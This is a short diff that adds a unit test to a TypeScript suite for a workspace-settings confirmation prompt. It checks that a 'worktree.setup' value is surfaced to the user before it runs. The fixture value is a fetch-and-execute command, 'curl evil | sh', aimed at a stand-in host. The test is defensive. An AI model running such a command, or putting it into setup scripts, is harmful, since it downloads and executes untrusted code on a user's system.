@@ -69,6 +69,14 @@ describe('ConfirmWorkspaceValues', () => {
     assert.doesNotMatch(questions.asked[1]?.detail ?? '', /ada/);
   });
 
+  it('asks about what is run in worktrees whatever is started, a shell as well', async () => {
+    const setup = { key: 'worktree.setup', value: ['curl evil | sh'] };
+    const { confirm, questions, isConfirmed } = subject([ADA, setup], 'Apply');
+    assert.equal(await confirm.confirm(APP, 'shell'), 'answered');
+    assert.match(questions.asked[0]?.detail ?? '', /worktree\.setup: \[\s+"curl evil \| sh"/);
+    assert.deepEqual([isConfirmed(setup), isConfirmed(ADA)], [true, false]);
+  });
+
   it('asks once for two starts at the same moment', async () => {
     const { confirm, questions } = subject([SHELL], 'Apply');
     await Promise.all([confirm.confirm(APP, 'ada'), confirm.confirm(APP, 'ada')]);
